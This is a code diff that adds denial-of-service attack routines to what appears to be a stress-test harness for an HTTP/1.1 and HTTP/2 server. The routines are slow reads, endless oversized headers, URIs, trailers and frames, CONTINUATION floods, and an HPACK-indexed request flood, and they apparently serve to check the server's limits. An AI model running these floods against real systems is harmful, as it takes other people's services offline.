@@ -7,6 +7,7 @@ import pathlib
 import select
 import socket
 import sys
+import threading
 import time
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
@@ -19,7 +20,7 @@ BATCH = 200  # frames in one write
 
 class Attack:
     def __init__(self, port, host, seconds):
-        self.port, self.host, self.deadline = port, host, time.monotonic() + seconds
+        self.port, self.host, self.seconds, self.deadline = port, host, seconds, time.monotonic() + seconds
         self.made = self.ended = self.bytes = 0
         self.codes = collections.Counter()
         self.resets = collections.Counter()
@@ -257,6 +258,113 @@ def slow_read(attack):
     attack.hold(20, start, reads=False)
 
 
+def slow_read_http1(attack):
+    """An answer of 8 MiB, taken a byte at a time."""
+    head = f"POST /a.B/B8388608 HTTP/1.1\r\nHost: {attack.host}\r\nContent-Length: 5\r\n\r\n".encode()
+
+    def start():
+        sock = attack.connect(receive_buffer=4_096)
+        sock.sendall(head + bytes(5))
+        return sock
+
+    def take(sock):
+        sock.settimeout(0)
+        attack.bytes += len(sock.recv(1))
+
+    # A byte a second where the attack lasts so long.
+    attack.hold(20, start, take, every=min(1, attack.seconds / 10), reads=False)
+
+
+def oversized(begin, part):
+    """Connections that each begin something and go on with it for ever; `begin(attack)` and `part` are bytes."""
+
+    def run(attack):
+        opening, more = begin(attack), part * max(1, 65_536 // len(part))
+        while attack.goes_on:
+            sock = attack.connect()
+            try:
+                sock.sendall(opening)
+                alive = True
+                while alive and attack.goes_on:
+                    sock.sendall(more)
+                    alive = attack.look(sock)
+            except OSError:
+                attack.read_out(sock)
+            sock.close()
+
+    return run
+
+
+def http1_head(attack, line="GET / HTTP/1.1", more=""):
+    return f"{line}\r\nHost: {attack.host}\r\n{more}".encode()
+
+
+def oversized_trailers(attack):
+    return http1_head(attack, "POST /a.B/Unary HTTP/1.1", "Transfer-Encoding: chunked\r\n\r\n5\r\n\0\0\0\0\0\r\n0\r\n")
+
+
+def oversized_fields(attack, trailers=False):
+    """Header blocks of 100,000 bytes, which are decoded to their end: each is answered with 431."""
+    big, head = literal("big", "b" * 16_000), attack.head()
+
+    def request(stream):
+        first, opening = head, b""
+        if trailers:
+            opening = frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, bytes(5))
+            first = literal("first", "")
+        rest = b"".join(frame(CONTINUATION, flags, stream, big) for flags in (0, 0, 0, 0, 0, END_HEADERS))
+        return opening + frame(HEADERS, END_STREAM, stream, first) + rest
+
+    while attack.goes_on:
+        sock = attack.begin()
+        try:
+            for stream in range(1, 20_001, 2):
+                sock.sendall(request(stream))
+                if not attack.look(sock) or not attack.goes_on:
+                    break
+        except OSError:
+            attack.read_out(sock)
+        sock.close()
+
+
+def hot_requests(attack, count=300_000):
+    """Requests that are answered at once, one connection full of them after the other: made beforehand, so that the worker has to work more
+    than we do."""
+    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", attack.host.encode()), (b":path", b"/nowhere")]
+    opening = b"".join(b"\x40" + literal(name, value)[1:] for name, value in fields)
+    # What was put into the table last is entry 62 (RFC 7541 §2.3.3).
+    block = bytes(0x80 | 62 + len(fields) - 1 - number for number in range(len(fields)))
+    head = frame(HEADERS, END_HEADERS | END_STREAM, 0, block)[:5]
+    later = b"".join(head + int32(stream) + block for stream in range(3, 2 * count, 2))
+    # The time to make them is not the attack's.
+    attack.deadline = time.monotonic() + attack.seconds
+    while attack.goes_on:
+        sock = attack.begin((INITIAL_WINDOW_SIZE, MAX_INT31))
+        reader = threading.Thread(target=drain, args=(attack, sock), daemon=True)
+        reader.start()
+        try:
+            sock.sendall(frame(WINDOW_UPDATE, 0, 0, int32(1 << 30)) + frame(HEADERS, END_HEADERS | END_STREAM, 1, opening))
+            for at in range(0, len(later), 1 << 20):
+                if not attack.goes_on:
+                    break
+                sock.sendall(later[at : at + (1 << 20)])
+            # Much of it is still with the kernel.
+            reader.join(max(0, attack.deadline - time.monotonic()))
+        except OSError:
+            attack.ended += 1
+        sock.close()
+        reader.join(5)
+
+
+def drain(attack, sock):
+    """Takes the answers, so that nothing waits for us, until none has come for a while."""
+    try:
+        while select.select([sock], [], [], 0.5)[0] and (data := sock.recv(1 << 20)):
+            attack.bytes += len(data)
+    except OSError:
+        pass
+
+
 def client_hello(host):
     import ssl
 
@@ -322,6 +430,16 @@ ATTACKS = {
     "slow_body": slow_body,
     "stalled_stream": stalled_streams,
     "slow_read": slow_read,
+    "slow_read_http1": slow_read_http1,
+    "oversized_head": oversized(http1_head, b"X-Filler: 12345678901234567890\r\n"),
+    "oversized_uri": oversized(lambda attack: b"GET /", b"u"),
+    "oversized_trailers": oversized(oversized_trailers, b"X-Filler: 12345678901234567890\r\n"),
+    "oversized_fields": oversized_fields,
+    "oversized_trailer_fields": lambda attack: oversized_fields(attack, trailers=True),
+    "oversized_frame": oversized(
+        lambda attack: PREFACE + settings() + frame(DATA, 0, 1, bytes(1 << 20))[:9], bytes(16_384)
+    ),
+    "hot_requests": hot_requests,
     "slow_handshake": handshakes,
     "handshake_limit": lambda attack: handshakes(attack, 400),
     "handshake_storm": lambda attack: handshakes(attack, 8_000, 100_000),
